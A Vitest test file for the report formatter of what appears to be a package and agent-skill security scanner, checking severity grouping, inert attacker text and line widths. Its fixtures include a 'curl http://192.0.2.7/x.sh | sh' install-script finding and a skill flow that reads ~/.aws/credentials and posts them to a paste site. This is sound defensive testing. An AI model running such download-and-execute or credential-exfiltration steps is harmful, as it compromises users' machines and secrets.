import { describe, expect, it } from 'vitest';
import { colorWanted, renderText } from '../../src/report/format.js';
import { FLOW_FINDING, FLOW_HOSTILE_FINDING, MIXED_FINDINGS, report } from './sample-reports.js';

const ANSI = /\u001b\[/;

describe('renderText', () => {
  const text = renderText(report(MIXED_FINDINGS), { color: false });
  // Lines wrap at 80 columns: long phrases are checked with the wrapping undone.
  const flat = text.replace(/\n +/g, ' ');

  it('starts with the target and the verdict, and says what to do', () => {
    const lines = text.split('\n');
    expect(lines[0]).toContain('@evil/plugin@1.0.0');
    expect(text).toMatch(/^verdict: BLOCK \(1 critical, 1 high, 2 low, 1 info, 1 suppressed\)$/m);
    expect(text).toContain('Do not install or load this');
  });

  it('groups findings by severity, highest first, each with package, file:line, evidence and fix', () => {
    const headings = [...text.matchAll(/^(CRITICAL|HIGH|MEDIUM|LOW|INFO) \((\d+)\)$/gm)].map((m) => `${m[1]} ${m[2]}`);
    expect(headings).toEqual(['CRITICAL 1', 'HIGH 1', 'LOW 2', 'INFO 1']);
    const critical = text.slice(text.indexOf('CRITICAL (1)'), text.indexOf('HIGH (1)'));
    expect(critical.replace(/\n +/g, ' ')).toContain('threat-install-download-exec: Install script downloads and runs a remote script');
    expect(critical).toContain('at helper@2.0.0 install.js:12 (via @evil/plugin>helper)');
    expect(critical).toContain('evidence: curl http://192.0.2.7/x.sh | sh');
    expect(critical).toContain('fix: Do not install; report the package to the registry.');
  });

  it('keeps suppressed findings visible but out of the severity groups', () => {
    const beforeSuppressed = text.slice(0, text.indexOf('SUPPRESSED (1)'));
    expect(beforeSuppressed).not.toContain('threat-obfuscated-code');
    expect(flat.slice(flat.indexOf('SUPPRESSED (1)'))).toContain('suppressed: Reviewed: vendored minified SDK, not obfuscation (until 2027-01-01)');
  });

  it('lists lifecycle scripts with their approval state and says how to approve', () => {
    expect(text).toContain('[not approved] helper@2.0.0 postinstall: node install.js');
    expect(text).toContain('[approved] esbuild@0.25.0 postinstall: node install.js');
    expect(flat).toContain('clawguard plugins approve-scripts evil-plugin');
  });

  it('neutralises terminal escapes and invisible characters in attacker text', () => {
    expect(text).not.toMatch(ANSI);
    expect(text).toContain('\\u{1b}[2K');
    expect(text).not.toContain('\r');
    expect(text).not.toContain('\u202e');
    expect(text).toContain('\\u{202e}');
  });

  it('uses colour only when asked, and never for NO_COLOR or a non-TTY', () => {
    expect(renderText(report(MIXED_FINDINGS), { color: true })).toMatch(ANSI);
    const saved = process.env.NO_COLOR;
    try {
      delete process.env.NO_COLOR;
      expect(colorWanted({ isTTY: true })).toBe(true);
      expect(colorWanted({ isTTY: false })).toBe(false);
      expect(colorWanted({})).toBe(false);
      process.env.NO_COLOR = '1';
      expect(colorWanted({ isTTY: true })).toBe(false);
      // Under vitest stdout is not a TTY: the default is plain text.
      delete process.env.NO_COLOR;
      if (!process.stdout.isTTY) expect(renderText(report(MIXED_FINDINGS))).not.toMatch(ANSI);
    } finally {
      if (saved === undefined) delete process.env.NO_COLOR;
      else process.env.NO_COLOR = saved;
    }
  });

  it('says allow plainly for a clean report, and totals several reports', () => {
    const clean = renderText(report([], { lifecycleScripts: [] }), { color: false });
    expect(clean).toMatch(/^verdict: ALLOW \(no findings\)$/m);
    expect(clean).toContain('Nothing here needs action.');
    const many = renderText([report(MIXED_FINDINGS), report([]), report([{ ruleId: 'x', severity: 'medium', message: 'm' }])], { color: false });
    expect(many).toMatch(/^3 targets: 1 block, 1 warn, 1 allow$/m);
  });
});

describe('renderText: tree, update and resolved sections', () => {
  const withSections = renderText(
    report([], {
      resolved: { registry: 'http://127.0.0.1:4873/', tarball: 'http://127.0.0.1:4873/p/-/p-2.0.0.tgz', publishedAt: '2026-01-02T03:04:05.000Z' },
      tree: {
        lockfileSha256: 'a'.repeat(64),
        signatures: ['registry publishes no signing keys'],
        packages: [
          { package: 'helper@2.0.0', path: 'p>helper', integrity: 'sha512-x', publishedAt: '2025-12-01T00:00:00.000Z', provenance: true, signature: 'verified' },
          { package: 'leaf@1.0.0', path: 'p>helper>leaf', provenance: false },
        ],
      },
      update: {
        from: 'p@1.0.0',
        to: 'p@2.0.0',
        files: { added: ['dist/new.js'], removed: [], changed: ['dist/index.js'] },
        dependencies: { added: ['leaf@1.0.0'], removed: [], changed: [{ name: 'helper', from: '1.0.0', to: '2.0.0' }] },
        newLifecycleScripts: [{ package: 'leaf@1.0.0', path: 'p>helper>leaf', event: 'postinstall', command: 'node x.js\u001b[2K', sha256: 'b'.repeat(64), approved: false }],
        newFindings: [{ ruleId: 'threat-x', severity: 'high', message: 'm', package: 'leaf@1.0.0' }],
        provenanceLost: true,
        maintainers: { before: ['alice'], after: ['mallory'], added: ['mallory'], removed: ['alice'] },
      },
    }),
    { color: false },
  );

  it('prints them as readable lines, not JSON', () => {
    expect(withSections).not.toMatch(/^\s*[{}[\]]\s*$|"lockfileSha256"|"newLifecycleScripts"/m);
    expect(withSections).toContain('DEPENDENCY TREE (2 packages)');
    expect(withSections).toMatch(/^ {2}helper@2\.0\.0 +provenance, signature verified, published 2025-12-01 via p>helper$/m);
    expect(withSections).toMatch(/^ {2}leaf@1\.0\.0 +no provenance via p>helper>leaf$/m);
    expect(withSections.replace(/\n +/g, ' ')).toContain(`lockfile sha256 ${'a'.repeat(64)}`);
    expect(withSections).toContain('UPDATE p@1.0.0 → p@2.0.0');
    expect(withSections).toContain('  files added (1): dist/new.js');
    expect(withSections).toContain('  dependency versions changed (1): helper 1.0.0 → 2.0.0');
    expect(withSections).toContain('  new lifecycle scripts (1): leaf@1.0.0 postinstall: node x.js');
    expect(withSections).toContain('  new findings (1): [high] threat-x (leaf@1.0.0)');
    expect(withSections).toContain('  provenance: LOST');
    expect(withSections).toContain('  maintainers: alice → mallory');
    expect(withSections).toContain('  tarball: http://127.0.0.1:4873/p/-/p-2.0.0.tgz');
    expect(withSections).not.toMatch(ANSI);
  });

  it('keeps an unknown extra section visible as JSON', () => {
    expect(renderText(report([], { custom: { a: 1 } }), { color: false })).toMatch(/^CUSTOM\n {2}\{\n {4}"a": 1/m);
  });
});

describe('renderText: flows and widths', () => {
  const text = renderText(report([FLOW_FINDING, FLOW_HOSTILE_FINDING, ...MIXED_FINDINGS]), { color: false });

  it('shows a flow as an arrow chain of steps with file:line, source first, and when it runs', () => {
    const block = text.slice(text.indexOf('skill-credential-exfil'));
    // One hop per line when the chain does not fit on one, each continuation starting with the arrow.
    expect(block).toMatch(/flow: reads ~\/\.aws\/credentials \(SKILL\.md:31\)\n {12}→ archives/);
    const flow = block.replace(/\n +/g, ' ');
    expect(flow).toMatch(/flow: reads ~\/\.aws\/credentials \(SKILL\.md:31\)\s+→ archives \/tmp\/x\.tgz \(scripts\/pack\.sh:4\) \[decoded\]\s+→ POST to files\.example \(paste site\) \(SKILL\.md:40\) \[emulated as linux-dev\]/);
    expect(block).toContain('runs when the agent follows the skill');
    expect(text).toContain('runs when the gateway loads the plugin');
  });

  it('keeps attacker text in a flow inert', () => {
    expect(text).not.toMatch(ANSI);
    expect(text).toContain('\\u{1b}[2K');
  });

  it('fits 80 columns, findings, scripts and tree included', () => {
    const long = report([...MIXED_FINDINGS, { ...FLOW_FINDING, message: 'x '.repeat(150), remediation: 'do this '.repeat(40), evidence: 'A'.repeat(500) }], {
      tree: { packages: [{ package: `${'very-long-package-name-'.repeat(4)}@1.0.0`, path: 'a>b>c>d>e>f>g>h>i>j>k', provenance: false, publishedAt: '2026-01-01T00:00:00Z' }] },
    } as any);
    for (const line of renderText(long, { color: false }).split('\n')) expect([...line].length, line).toBeLessThanOrEqual(80);
  });
});
